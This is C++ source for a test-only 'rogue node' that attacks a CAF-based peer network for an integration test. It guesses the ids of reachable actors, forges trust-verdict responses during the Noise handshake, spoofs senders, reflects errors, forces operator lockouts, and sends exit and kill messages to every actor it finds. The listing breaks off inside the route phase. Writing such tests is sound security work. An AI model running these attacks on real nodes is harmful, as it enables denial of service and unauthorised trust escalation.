// nztest_rogue_node — test-only: a hostile CAF node for the rogue-node
// integration test (tests/integration/test_rogue.py, issue #5).
//
//   nztest_rogue_node --peer HOST:PORT [--phases a,b,...] [--ids FIRST-LAST]
//                     [--other HOST:PORT] [--route-pid PID] [--watch-pid PID]
//                     [--lockout-client NAME] [--big-mib N] [--claim-mib N]
//                     [--hold-ms N] [--settle-ms N]
//
// It connects to a node's peer port (remote_actor<peer_gate_actor>), then
// reaches every actor of that node whose handle ever crossed the wire by its
// actor id: it asks its own BASP broker's proxy registry for a proxy of
// (node id, actor id) for each guessed id (get_or_put, the call CAF itself uses
// when it deserializes a handle). The node answers the proxy's monitor message
// with a down message for ids that are not registered, so proxies that survive
// a short wait name the reachable actors ("enumerate"). Phases:
//   content      operator requests (wrong and empty token), peer protocol
//                messages (hello, hs3, frame, abort, stats, ping, up, beat,
//                tick), storage, trust, identity, audit, auth and shutdown
//                messages, each sent to every guessed id
//   handshake    a real Noise XX handshake as an untrusted node (baseline)
//   forge        the same, plus forged responses (response message ids) with a
//                high trust verdict sent to the responder session right after
//                message 3: does admission trust a response from the wire?
//   spoof-local  peer_ping/peer_beat/tick to the sessions with the sender
//                spoofed as one of the node's own actors (a routed BASP
//                message naming the target node as its source)
//   reflect      an unhandled message to every reachable actor with the sender
//                spoofed as that actor itself: the error reply comes back to it
//   reflect-other the same with senders spoofed as --other's actors
//   spoof-abort  peer_abort to the target's sessions, with the sender spoofed
//                as each session of --other (a routed BASP message)
//   spoof-down   a down_msg naming each session of --other, to the target's
//                sessions
//   hijack       a raw BASP client that claims --other's node id and selects
//                its connection as the target's route to --other
//   basp-down    raw BASP down messages naming --other's actors
//   lockout      five wrong-token operator requests to the admin gate in the
//                name of --lockout-client (default nzctl:root)
//   configserv   put/get on the CAF config server (named actor "ConfigServ")
//   spawn        remote spawn through the CAF spawn server ("SpawnServ")
//   big          a --big-mib MiB byte vector in a peer_hello to the gate
//   claim        a raw BASP header announcing a --claim-mib MiB payload
//   link         links a stalled handshake session to every reachable actor
//                (BASP intercepts a ('link', handle) message and links the
//                named local actor), then lets the session time out
//   route        exit messages to guessed ids of a node the rogue is NOT
//                connected to (--route-pid, same host), through the target
//   error        a caf::error message to every guessed id
//   exit         an exit_msg (user_shutdown) to every guessed id
//   kill         an exit_msg (kill) to every guessed id
// After every phase the rogue enumerates again and reports which reachable
// actors disappeared ("RESULT gone phase=... node=target|other count=N
// actors=id:name,..."). Every phase prints what it sent and what came back;
// machine-readable lines start with "RESULT ". Exit status 0 unless the peer
// port is unreachable (2) or the arguments are bad (64).
#include <sodium.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <map>
#include <mutex>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <caf/actor_system.hpp>
#include <caf/actor_system_config.hpp>
#include <caf/binary_deserializer.hpp>
#include <caf/binary_serializer.hpp>
#include <caf/event_based_actor.hpp>
#include <caf/exit_reason.hpp>
#include <caf/io/basp/header.hpp>
#include <caf/io/basp_broker.hpp>
#include <caf/io/middleman.hpp>
#include <caf/message_view.hpp>
#include <caf/proxy_registry.hpp>
#include <caf/scoped_actor.hpp>
#include <caf/stateful_actor.hpp>
#include <caf/system_messages.hpp>

#include "actors/peer/noise/x25519.hpp"
#include "actors/peer/session/binding.hpp"
#include "actors/peer/session/frame_body.hpp"
#include "actors/peer/session/handshake_driver.hpp"
#include "actors/peer/session/session_cipher.hpp"
#include "actors/peer/session/session_protocol.hpp"
#include "messages/audit_api.hpp"
#include "messages/identity_api.hpp"
#include "messages/kv_api.hpp"
#include "messages/metrics_api.hpp"
#include "messages/node_api.hpp"
#include "messages/operator_api.hpp"
#include "messages/peer_api.hpp"
#include "messages/register_types.hpp"
#include "messages/storage_api.hpp"
#include "messages/trust_api.hpp"

namespace {

using namespace std::chrono_literals;
using bytes = std::vector<uint8_t>;

std::mutex out_mtx;

template <class... Ts>
void say(const Ts&... xs) {
  std::ostringstream os;
  os << "rogue: ";
  (os << ... << xs);
  std::lock_guard<std::mutex> guard{out_mtx};
  std::cout << os.str() << std::endl;
}

template <class... Ts>
void result(const Ts&... xs) {
  std::ostringstream os;
  os << "RESULT ";
  (os << ... << xs);
  std::lock_guard<std::mutex> guard{out_mtx};
  std::cout << os.str() << std::endl;
}

std::string clip(std::string s, size_t n = 240) {
  if (s.size() > n) s = s.substr(0, n) + "...(" + std::to_string(s.size()) + " chars)";
  return s;
}

uint64_t mono_ms() {
  return static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::milliseconds>(
                                   std::chrono::steady_clock::now().time_since_epoch())
                                   .count());
}

std::string hex(const uint8_t* p, size_t n) {
  std::string out(n * 2 + 1, '\0');
  sodium_bin2hex(out.data(), out.size(), p, n);
  out.pop_back();
  return out;
}

bytes random_bytes(size_t n) {
  bytes out(n);
  randombytes_buf(out.data(), out.size());
  return out;
}

// -- options -----------------------------------------------------------------

struct endpoint {
  std::string host;
  uint16_t port = 0;
};

struct options {
  endpoint peer;
  std::optional<endpoint> other;
  uint64_t first = 1;
  uint64_t last = 300;
  std::vector<std::string> phases;
  int watch_pid = 0;
  int route_pid = 0;
  std::string lockout_client = "nzctl:root";
  size_t big_mib = 64;
  size_t claim_mib = 1024;
  int hold_ms = 3000;
  int settle_ms = 1500;
};

bool parse_endpoint(const std::string& s, endpoint& out) {
  auto colon = s.rfind(':');
  if (colon == std::string::npos) return false;
  auto port = std::atoi(s.c_str() + colon + 1);
  if (port <= 0 || port > 65535) return false;
  out.host = s.substr(0, colon);
  out.port = static_cast<uint16_t>(port);
  return true;
}

std::optional<options> parse(int argc, char** argv) {
  options o;
  o.phases = {"content"};
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    auto val = [&]() -> std::string { return i + 1 < argc ? argv[++i] : ""; };
    if (a == "--peer") {
      if (!parse_endpoint(val(), o.peer)) return std::nullopt;
    } else if (a == "--other") {
      endpoint e;
      if (!parse_endpoint(val(), e)) return std::nullopt;
      o.other = e;
    } else if (a == "--ids") {
      auto v = val();
      if (std::sscanf(v.c_str(), "%lu-%lu", &o.first, &o.last) != 2 || o.first == 0
          || o.last < o.first || o.last - o.first > 100000)
        return std::nullopt;
    } else if (a == "--phases") {
      o.phases.clear();
      std::stringstream ss{val()};
      for (std::string p; std::getline(ss, p, ',');)
        if (!p.empty()) o.phases.push_back(p);
    } else if (a == "--lockout-client") {
      o.lockout_client = val();
    } else if (a == "--route-pid") {
      o.route_pid = std::atoi(val().c_str());
    } else if (a == "--watch-pid") {
      o.watch_pid = std::atoi(val().c_str());
    } else if (a == "--big-mib") {
      o.big_mib = static_cast<size_t>(std::atol(val().c_str()));
    } else if (a == "--claim-mib") {
      o.claim_mib = static_cast<size_t>(std::atol(val().c_str()));
    } else if (a == "--hold-ms") {
      o.hold_ms = std::atoi(val().c_str());
    } else if (a == "--settle-ms") {
      o.settle_ms = std::atoi(val().c_str());
    } else {
      return std::nullopt;
    }
  }
  if (o.peer.port == 0) return std::nullopt;
  return o;
}

/// VmRSS of a process in KiB (0 if unknown).
long rss_kib(int pid) {
  if (pid <= 0) return 0;
  std::ifstream in{"/proc/" + std::to_string(pid) + "/status"};
  for (std::string line; std::getline(in, line);)
    if (line.rfind("VmRSS:", 0) == 0) return std::atol(line.c_str() + 6);
  return 0;
}

/// Reads the application identifiers a node announces in its BASP server
/// handshake (they are sent in clear to every client that connects; only
/// clients check them). Empty on any error.
std::vector<std::string> peek_app_ids(const endpoint& e) {
  std::vector<std::string> out;
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(e.port);
  ::inet_pton(AF_INET, e.host.c_str(), &sa.sin_addr);
  timeval tv{3, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  auto read_all = [fd](std::vector<char>& buf) {
    size_t got = 0;
    while (got < buf.size()) {
      auto n = ::recv(fd, buf.data() + got, buf.size() - got, 0);
      if (n <= 0) return false;
      got += static_cast<size_t>(n);
    }
    return true;
  };
  std::vector<char> hdr_buf(caf::io::basp::header_size);
  if (fd >= 0 && ::connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) == 0
      && read_all(hdr_buf)) {
    caf::io::basp::header hdr;
    caf::binary_deserializer hd{static_cast<caf::execution_unit*>(nullptr), hdr_buf};
    if (!hd(hdr) && hdr.payload_len > 0 && hdr.payload_len < (1u << 20)) {
      std::vector<char> payload(hdr.payload_len);
      if (read_all(payload)) {
        caf::binary_deserializer pd{static_cast<caf::execution_unit*>(nullptr), payload};
        caf::node_id nid;
        std::vector<std::string> ids;
        if (!pd(nid, ids)) out = std::move(ids);
      }
    }
  }
  if (fd >= 0) ::close(fd);
  return out;
}

// -- proxies -----------------------------------------------------------------

/// The proxy registry of this node's BASP broker: get_or_put(node, id) gives a
/// forwarding proxy for any actor id on a connected node.
caf::proxy_registry& proxies(caf::actor_system& sys) {
  auto bb = sys.middleman().named_broker<caf::io::basp_broker>(caf::atom("BASP"));
  auto ptr =
      static_cast<caf::io::basp_broker*>(caf::actor_cast<caf::abstract_actor*>(bb));
  return ptr->instance.proxies();
}

struct target {
  caf::node_id node;
  caf::strong_actor_ptr gate;
  /// Reachable actor ids and their names (from a ('sys', 'get', "info") probe).
  std::map<uint64_t, std::string> alive;
};

/// Creates proxies for [first, last] on `nid`; the node kills the ones it does
/// not know (down message for the proxy's monitor). Survivors are reachable.
std::vector<uint64_t> enumerate(caf::actor_system& sys, const caf::node_id& nid,
                                uint64_t first, uint64_t last, int settle_ms) {
  auto& reg = proxies(sys);
  for (auto aid = first; aid <= last; ++aid) reg.get_or_put(nid, aid);
  std::this_thread::sleep_for(std::chrono::milliseconds(settle_ms));
  std::vector<uint64_t> out;
  for (auto aid = first; aid <= last; ++aid)
    if (reg.get(nid, aid)) out.push_back(aid);
  return out;
}

/// Names of remote actors via CAF's built-in ('sys', 'get', "info") message,
/// which every scheduled actor answers unless something filters it. All probes
/// go out at once; whoever has not answered within `window` is "?".
std::map<uint64_t, std::string> probe_names(caf::actor_system& sys,
                                            const caf::node_id& nid,
                                            const std::vector<uint64_t>& ids,
                                            std::chrono::milliseconds window) {
  std::map<uint64_t, std::string> out;
  caf::scoped_actor self{sys};
  auto& reg = proxies(sys);
  for (auto aid : ids) {
    out[aid] = "?";
    if (auto p = reg.get_or_put(nid, aid))
      p->enqueue(caf::strong_actor_ptr{self->ctrl()}, caf::make_message_id(),
                 caf::make_message(caf::sys_atom::value, caf::get_atom::value,
                                   std::string{"info"}),
                 nullptr);
  }
  auto deadline = std::chrono::steady_clock::now() + window;
  for (bool done = false; !done;) {
    auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
        deadline - std::chrono::steady_clock::now());
    if (left.count() <= 0) break;
    self->receive(
        [&](caf::ok_atom, std::string&, caf::strong_actor_ptr& who, std::string& n) {
          if (who && out.count(who->id())) out[who->id()] = n.empty() ? "?" : n;
        },
        [&](caf::message&) {},  // anything else: ignore
        caf::after(left) >> [&] { done = true; });
  }
  return out;
}

/// Whether a reachable actor may be `want`: its name, or unknown ("?": the
/// actor does not answer CAF's info probe).
bool maybe(const std::string& name, const std::string& want) {
  return name == want || name == "?";
}

/// "aid:name,aid:name" (names without spaces).
std::string id_list(const std::map<uint64_t, std::string>& xs) {
  std::string out;
  for (auto& [aid, name] : xs) {
    if (!out.empty()) out += ',';
    out += std::to_string(aid) + ':' + (name.find(' ') == std::string::npos ? name : "?");
  }
  return out;
}

std::map<uint64_t, std::string> census(caf::actor_system& sys, const caf::node_id& nid,
                                       const caf::strong_actor_ptr& gate,
                                       const options& o, const char* label) {
  auto ids = enumerate(sys, nid, o.first, o.last, std::max(o.settle_ms, 500));
  auto out = probe_names(sys, nid, ids, 400ms);
  if (gate && out.count(gate->id())) out[gate->id()] = "nz.peer_gate";
  std::ostringstream os;
  for (auto& [aid, name] : out) os << " " << aid << "=" << name;
  say(label, ": ", out.size(), " reachable actor(s) among ids ", o.first, "-", o.last,
      ":", os.str());
  return out;
}

// -- the reply collector -----------------------------------------------------

struct tally {
  std::mutex mtx;
  std::map<std::string, int> by_kind;
  int total = 0;
  int from_network = 0;
  int from_elsewhere = 0;
};

/// Sender of everything the rogue sends: prints whatever comes back. It also
/// checks the discriminator proposed for the node's wire-facing actors: a
/// message deserialized by the BASP broker (middleman.workers = 0) is enqueued
/// with the middleman's multiplexer as execution unit.
class collector_actor : public caf::event_based_actor {
 public:
  collector_actor(caf::actor_config& cfg, std::shared_ptr<tally> t)
      : caf::event_based_actor(cfg), t_(std::move(t)) {}

  void enqueue(caf::mailbox_element_ptr x, caf::execution_unit* eu) override {
    bool net = eu != nullptr && eu == &home_system().middleman().backend();
    {
      std::lock_guard<std::mutex> guard{t_->mtx};
      ++(net ? t_->from_network : t_->from_elsewhere);
    }
    caf::event_based_actor::enqueue(std::move(x), eu);
  }

  caf::behavior make_behavior() override;

 private:
  std::shared_ptr<tally> t_;
};

caf::behavior collector(caf::event_based_actor* self, std::shared_ptr<tally> t) {
  self->set_default_handler(
      [t](caf::scheduled_actor* s, caf::message_view& x) -> caf::result<caf::message> {
        auto msg = x.copy_content_to_message();
        auto src = s->current_sender();
        auto text = caf::to_string(msg);
        say("reply from actor ", src ? src->id() : 0, ": ", clip(text));
        std::lock_guard<std::mutex> guard{t->mtx};
        ++t->total;
        ++t->by_kind[text.substr(0, text.find_first_of(",)"))];
        return caf::delegated<caf::message>{};
      });
  self->set_error_handler([t](caf::error& e) {
    // Mostly unexpected_message from typed actors: counted, not printed.
    std::lock_guard<std::mutex> guard{t->mtx};
    ++t->by_kind["error " + caf::to_string(e)];
  });
  self->set_down_handler([](caf::down_msg& dm) {
    say("down message received: ", caf::to_string(dm.reason));
  });
  self->set_exit_handler([](caf::exit_msg& em) {
    say("exit message received: ", caf::to_string(em.reason));
  });
  return {[](caf::ok_atom) {}};
}

caf::behavior collector_actor::make_behavior() {
  return collector(this, t_);
}

// -- the handshake / forgery actor --------------------------------------------

struct hs_outcome {
  std::mutex mtx;
  std::condition_variable cv;
  std::string verdict;  ///< "", "admitted", "refused", "failed: ..."
  std::string node_id;
  uint64_t responder = 0;
  void set(std::string v) {
    std::lock_guard<std::mutex> guard{mtx};
    if (verdict.empty() || verdict == "pending") verdict = std::move(v);
    cv.notify_all();
  }
};

struct hs_state {
  std::optional<nz::peer::handshake_driver> driver;
  std::optional<nz::peer::session_cipher> cipher;
  caf::actor responder;
  std::shared_ptr<hs_outcome> out;
  int forge = 0;
  uint8_t forged_level = 3;
  std::string my_key_hex;
  static inline const char* name = "rogue.handshake";
};

caf::behavior handshaker(caf::stateful_actor<hs_state>* self, caf::actor gate, int forge,
                         std::shared_ptr<hs_outcome> out) {
  auto& st = self->state;
  st.out = out;
  st.forge = forge;
  auto kp = nz::peer::noise::keypair::generate();
  nz::peer::ed25519_public_key pk{};
  std::array<uint8_t, crypto_sign_SECRETKEYBYTES> sk{};
  crypto_sign_keypair(pk.data(), sk.data());
  auto bmsg = nz::peer::binding_message(kp.public_key_bytes, nz::peer::protocol_version);
  nz::peer::ed25519_signature sig{};
  crypto_sign_detached(sig.data(), nullptr, bmsg.data(), bmsg.size(), sk.data());
  sodium_memzero(sk.data(), sk.size());
  st.my_key_hex = hex(pk.data(), pk.size());
  {
    std::lock_guard<std::mutex> guard{out->mtx};
    out->node_id = nz::peer::node_id_of(pk);
  }
  auto binding =
      nz::peer::encode_binding(pk, sig, nz::peer::protocol_version, /*features*/ 0);
  auto drv = nz::peer::handshake_driver::create(nz::peer::noise::role::initiator,
                                                kp.clone(), binding);
  if (!drv) {
    out->set("failed: driver: " + drv.error().message);
    return {};
  }
  st.driver.emplace(std::move(*drv));
  auto msg1 = st.driver->start();
  if (!msg1) {
    out->set("failed: msg1: " + msg1.error().message);
    return {};
  }
  say("handshake: hello as node ", out->node_id.substr(0, 16), " (key ",
      st.my_key_hex.substr(0, 16), "...), forged responses: ", forge);
  self->send(gate, nz::peer_hello_atom::value, std::move(*msg1),
             caf::actor_cast<caf::actor>(self));
  return {
      [self](nz::peer_hs2_atom, bytes& msg2, caf::actor& responder) {
        auto& st = self->state;
        if (!st.driver || st.responder) return;
        st.responder = responder;
        {
          std::lock_guard<std::mutex> guard{st.out->mtx};
          st.out->responder = responder.id();
        }
        if (st.forge < 0) {
          say("handshake: message 2 from responder session ", responder.id(),
              "; not answering (the session times out)");
          st.out->set("stalled");
          return;
        }
        auto rep = st.driver->on_msg2(msg2);
        if (!rep) {
          st.out->set("failed: msg2: " + rep.error().message);
          return;
        }
        say("handshake: message 2 from responder session ", responder.id(), " (node ",
            rep->remote.node_id.substr(0, 16), "); sending message 3");
        self->send(responder, nz::peer_hs3_atom::value, std::move(rep->msg3));
        if (st.forge > 0) {
          // The responder session's first request after message 3 is its trust
          // lookup (request id 1). A response message id is all CAF checks.
          nz::trust_verdict v;
          v.subject = st.out->node_id;
          v.subject_key = st.my_key_hex;
          v.level = st.forged_level;
          v.revoked = false;
          auto dest = caf::actor_cast<caf::strong_actor_ptr>(responder);
          for (int k = 1; k <= st.forge; ++k)
            dest->enqueue(caf::strong_actor_ptr{self->ctrl()},
                          caf::make_message_id(static_cast<uint64_t>(k)).response_id(),
                          caf::make_message(v), self->context());
          say("handshake: sent ", st.forge,
              " forged trust_verdict responses (level 3) for request ids 1..", st.forge);
        }
        auto cipher = st.driver->transport(nz::peer::session_options{}, mono_ms());
        st.driver.reset();
        if (!cipher) {
          st.out->set("failed: transport: " + cipher.error().message);
          return;
        }
        st.cipher.emplace(std::move(*cipher));
      },
      [self](nz::peer_frame_atom, bytes& frame) {
        auto& st = self->state;
        if (!st.cipher || self->current_sender() != st.responder.address()) return;
        auto plain = st.cipher->open(frame, mono_ms());
        if (!plain) return;
        auto body = nz::peer::decode_frame_body(*plain);
        if (!body) return;
        if (body->type == "ready") {
          say("handshake: ADMITTED: the responder sent its first sealed frame (ready)");
          st.out->set("admitted");
        } else if (body->type == "ping") {
          nz::peer::frame_body pong{"pong", {}, body->body};
          auto p = nz::peer::encode_frame_body(pong);
          if (!p) return;
          auto f = st.cipher->seal(*p, mono_ms());
          if (f) self->send(st.responder, nz::peer_frame_atom::value, std::move(*f));
        }
      },
      [self](nz::peer_abort_atom) {
        auto src = self->current_sender();
        say("handshake: refused (peer_abort from ", src ? src->id() : 0, ")");
        self->state.out->set("refused");
      },
  };
}

std::string run_handshake(caf::actor_system& sys, const target& b, int forge,
                          const options& o, std::string& node_id) {
  auto out = std::make_shared<hs_outcome>();
  auto hs = sys.spawn(handshaker, caf::actor_cast<caf::actor>(b.gate), forge, out);
  std::unique_lock<std::mutex> guard{out->mtx};
  out->cv.wait_for(guard, std::chrono::milliseconds(std::max(o.settle_ms, 8000)),
                   [&] { return !out->verdict.empty(); });
  auto v = out->verdict.empty() ? std::string{"no-answer"} : out->verdict;
  node_id = out->node_id;
  guard.unlock();
  if (v == "admitted") {
    // Stay admitted a moment so the test can see the session on the node.
    std::this_thread::sleep_for(std::chrono::milliseconds(o.hold_ms));
  }
  caf::anon_send_exit(hs, caf::exit_reason::user_shutdown);
  return v;
}

// -- message batches ---------------------------------------------------------

struct labelled {
  std::string label;
  caf::message msg;
};

std::vector<labelled> content_messages(const caf::actor& me,
                                       const std::string& rogue_key) {
  std::vector<labelled> out;
  auto op = [](std::string token) {
    nz::operator_request r;
    r.token = std::move(token);
    r.client = "rogue";
    r.command = "trust";
    r.args = {"add", std::string(64, 'a'), "--level", "high"};
    return r;
  };
  out.push_back(
      {"operator_request(wrong token)", caf::make_message(op(std::string(64, 'f')))});
  out.push_back({"operator_request(empty token)", caf::make_message(op(""))});
  out.push_back({"peer_hello",
                 caf::make_message(nz::peer_hello_atom::value, random_bytes(32), me)});
  out.push_back(
      {"peer_hs3", caf::make_message(nz::peer_hs3_atom::value, random_bytes(96))});
  out.push_back(
      {"peer_frame", caf::make_message(nz::peer_frame_atom::value, random_bytes(64))});
  out.push_back({"peer_abort", caf::make_message(nz::peer_abort_atom::value)});
  out.push_back({"peer_stats", caf::make_message(nz::peer_stats_atom::value)});
  out.push_back({"peer_ping", caf::make_message(nz::peer_ping_atom::value)});
  out.push_back({"peer_ping(node)",
                 caf::make_message(nz::peer_ping_atom::value, std::string(64, '0'))});
  out.push_back(
      {"peer_up", caf::make_message(nz::peer_up_atom::value, std::string(64, 'e'), me,
                                    true, std::string{"rogue"})});
  out.push_back({"peer_list", caf::make_message(nz::peer_list_atom::value)});
  out.push_back(
      {"peer_connect", caf::make_message(nz::peer_connect_atom::value,
                                         std::string{"127.0.0.1"}, uint16_t{9})});
  out.push_back({"peer_beat", caf::make_message(nz::peer_beat_atom::value)});
  out.push_back({"tick", caf::make_message(nz::tick_atom::value)});
  out.push_back({"phase(drain)", caf::make_message(nz::phase_atom::value, uint8_t{1})});
  out.push_back(
      {"shutdown", caf::make_message(nz::shutdown_atom::value, std::string{"rogue"})});
  out.push_back({"restart", caf::make_message(nz::restart_atom::value, uint64_t{0})});
  bytes k{'k'}, v{'v'};
  out.push_back({"kv_put", caf::make_message(nz::kv_put_atom::value, uint8_t{0},
                                             std::string{"rogue"}, k, v)});
  out.push_back({"kv_del", caf::make_message(nz::kv_del_atom::value, uint8_t{0},
                                             std::string{"keep"}, bytes{'k'})});
  nz::trust_assert_request tr;
  tr.kind = "set_level";
  tr.subject = rogue_key;
  tr.level = 4;
  out.push_back({"trust_assert", caf::make_message(nz::trust_assert_atom::value, tr)});
  out.push_back(
      {"append", caf::make_message(nz::append_atom::value, std::string{"nz.audit"},
                                   uint64_t{1}, random_bytes(16))});
  out.push_back(
      {"snapshot", caf::make_message(nz::snapshot_atom::value, std::string{"auth"},
                                     uint64_t{1}, random_bytes(16))});
  out.push_back({"audit_record",
                 caf::make_message(nz::audit_record_atom::value, std::string{"rogue"},
                                   std::string{"rogue"}, std::string{"rogue"})});
  out.push_back(
      {"auth_ok", caf::make_message(nz::auth_ok_atom::value, std::string{"harness"})});
  out.push_back({"auth_fail",
                 caf::make_message(nz::auth_fail_atom::value, std::string{"harness"})});
  out.push_back({"sign", caf::make_message(nz::sign_atom::value, random_bytes(32))});
  out.push_back({"subkey", caf::make_message(nz::subkey_atom::value, uint8_t{1})});
  out.push_back(
      {"metric add",
       caf::make_message(nz::add_atom::value, std::string{"nzcore_peer_dropped_total"},
                         nz::label_values{"foreign_sender"}, -1e9)});
  return out;
}

/// Sends `msg` to (nid, aid) with `sender` (may be null) and message id `mid`.
void send_to(caf::actor_system& sys, const caf::node_id& nid, uint64_t aid,
             const caf::strong_actor_ptr& sender, caf::message_id mid,
             const caf::message& msg) {
  auto p = proxies(sys).get_or_put(nid, aid);
  if (p) p->enqueue(sender, mid, msg, nullptr);
}

// -- phases ------------------------------------------------------------------

void phase_content(caf::actor_system& sys, const target& b, const caf::actor& me,
                   const options& o) {
  auto key = hex(random_bytes(32).data(), 32);
  auto batch = content_messages(me, key);
  auto sender = caf::actor_cast<caf::strong_actor_ptr>(me);
  size_t n = 0;
  // Every message to every guessed id, asynchronously with `me` as sender:
  // whatever a handler returns comes back to `me` as an ordinary message.
  for (auto& m : batch) {
    for (auto aid = o.first; aid <= o.last; ++aid) {
      send_to(sys, b.node, aid, sender, caf::make_message_id(), m.msg);
      ++n;
    }
    say("content: sent ", m.label, " to ids ", o.first, "-", o.last);
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  result("content sent=", n, " kinds=", batch.size());
}

void phase_spoof_local(caf::actor_system& sys, const target& b, const options& o) {
  // Sender: one of the target's own actors. The rogue's BASP writes a routed
  // message whose source node is the target; the target takes the sender from
  // its own actor registry. Sessions accept ping/stats "from a local actor".
  auto gate_as_sender = proxies(sys).get_or_put(b.node, b.gate->id());
  size_t n = 0;
  for (auto& [aid, name] : b.alive) {
    if (!maybe(name, "nz.peer_session")) continue;
    auto self_as_sender = proxies(sys).get_or_put(b.node, aid);
    for (int i = 0; i < 20; ++i) {
      send_to(sys, b.node, aid, gate_as_sender, caf::make_message_id(),
              caf::make_message(nz::peer_ping_atom::value));
      send_to(sys, b.node, aid, self_as_sender, caf::make_message_id(),
              caf::make_message(nz::peer_beat_atom::value));
      n += 2;
    }
    send_to(sys, b.node, aid, self_as_sender, caf::make_message_id(),
            caf::make_message(nz::tick_atom::value));
    ++n;
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  say("spoof-local: sent 20 peer_ping as the peer gate (", b.gate->id(),
      "), 20 peer_beat and a tick as the session itself, to each session");
  result("spoof-local sent=", n);
}

/// An unhandled message whose spoofed sender is `victim`: the receiver answers
/// with an error message (sec::unexpected_message) to the victim, and an actor
/// with CAF's default error handler quits on it.
void phase_reflect(caf::actor_system& sys, const target& b, const target& victims,
                   const char* label, const options& o) {
  size_t n = 0;
  for (auto& [vid, vname] : victims.alive) {
    auto victim = proxies(sys).get_or_put(victims.node, vid);
    // Via the victim itself when it is on the target, else via every target actor.
    if (victims.node == b.node) {
      send_to(sys, b.node, vid, victim, caf::make_message_id(),
              caf::make_message(caf::ok_atom::value, std::string{"rogue"}));
      ++n;
    } else {
      for (auto& [bid, bname] : b.alive) {
        send_to(sys, b.node, bid, victim, caf::make_message_id(),
                caf::make_message(caf::ok_atom::value, std::string{"rogue"}));
        ++n;
      }
    }
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  say(label, ": sent ", n, " unhandled ('ok', \"rogue\") messages with spoofed senders");
  result(label, " sent=", n);
}

void phase_spoof_remote(caf::actor_system& sys, const target& b, const target& a,
                        bool down, const options& o) {
  // Sessions only (they handle both messages, so nothing is reflected).
  size_t n = 0;
  for (auto& [bid, bname] : b.alive) {
    if (!maybe(bname, "nz.peer_session")) continue;
    for (auto& [aid, aname] : a.alive) {
      if (!maybe(aname, "nz.peer_session")) continue;
      auto fake = proxies(sys).get_or_put(a.node, aid);
      if (down) {
        send_to(
            sys, b.node, bid, nullptr, caf::make_message_id(),
            caf::make_message(caf::down_msg{caf::actor_cast<caf::actor_addr>(fake),
                                            caf::exit_reason::remote_link_unreachable}));
      } else {
        send_to(sys, b.node, bid, fake, caf::make_message_id(),
                caf::make_message(nz::peer_abort_atom::value));
      }
      ++n;
    }
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  auto label = down ? "spoof-down" : "spoof-abort";
  say(label, ": sent ", n,
      down ? " forged down_msg (source: a session of --other)"
           : " peer_abort (sender: a session of --other)",
      " to the target's sessions");
  result(label, " sent=", n);
}

/// Five wrong-token requests to the admin gate (reachable through the peer
/// port) in the name of the operator's client: the per-client lockout.
void phase_lockout(caf::actor_system& sys, const target& b, const caf::actor& me,
                   const options& o) {
  size_t n = 0;
  for (auto& [aid, name] : b.alive) {
    if (!maybe(name, "nz.admin_gate")) continue;
    for (int i = 0; i < 5; ++i) {
      nz::operator_request r;
      r.token = std::string(64, '0' + i);
      r.client = o.lockout_client;
      r.command = "status";
      send_to(sys, b.node, aid, caf::actor_cast<caf::strong_actor_ptr>(me),
              caf::make_message_id(), caf::make_message(std::move(r)));
      ++n;
    }
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  say("lockout: sent ", n, " wrong-token requests as client '", o.lockout_client, "'");
  result("lockout sent=", n);
}

/// Starts a handshake and stalls it, links the stalled responder session to
/// every reachable actor through BASP's link interception (a link_atom message
/// naming a local actor), and lets the session time out: its non-normal exit
/// reaches every actor linked to it.
void phase_link(caf::actor_system& sys, const target& b, const options& o) {
  auto out = std::make_shared<hs_outcome>();
  auto hs = sys.spawn(handshaker, caf::actor_cast<caf::actor>(b.gate), -1, out);
  uint64_t responder = 0;
  {
    std::unique_lock<std::mutex> guard{out->mtx};
    out->cv.wait_for(guard, 8s, [&] { return !out->verdict.empty(); });
    responder = out->responder;
  }
  if (responder == 0) {
    say("link: no responder session");
    result("link outcome=failed");
    caf::anon_send_exit(hs, caf::exit_reason::user_shutdown);
    return;
  }
  auto victim_of = proxies(sys).get_or_put(b.node, responder);
  size_t n = 0;
  for (auto& [aid, name] : b.alive) {
    send_to(sys, b.node, aid, nullptr, caf::make_message_id(),
            caf::make_message(caf::link_atom::value, victim_of));
    ++n;
  }
  say("link: linked responder session ", responder, " to ", n,
      " reachable actors; waiting for its handshake timeout");
  std::this_thread::sleep_for(std::chrono::milliseconds(5500 + o.settle_ms));
  caf::anon_send_exit(hs, caf::exit_reason::user_shutdown);
  result("link sent=", n, " responder=", responder);
}

/// Reaches a node the rogue is not connected to through the target: BASP
/// forwards routed messages to any node it has a connection to. The other
/// node's id is (its pid, this host's id) when it runs on the same host.
void phase_route(caf::actor_system& sys, const target& b, const options& o) {
  if (o.route_pid <= 0) {
    say("route: needs --route-pid");
    return;
  }
  auto& mine = static_cast<const caf::node_id::default_data&>(*sys.node());
  auto other = caf::make_node_id(static_cast<uint32_t>(o.route_pid), mine.host_id());
  auto bb = sys.middleman().named_broker<caf::io::basp_broker>(caf::atom("BASP"));
  auto broker =
      static_cast<caf::io::basp_broker*>(caf::actor_cast<caf::abstract_actor*>(bb));
  broker->instance.tbl().add_indirect(b.node, other);
  size_t n = 0;
  for (auto aid = o.first; aid <= o.last; ++aid) {
    send_to(sys, other, aid, nullptr, caf::make_message_id(),
            caf::make_message(
                caf::exit_msg{caf::actor_addr{}, caf::exit_reason::user_shutdown}));
    ++n;
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
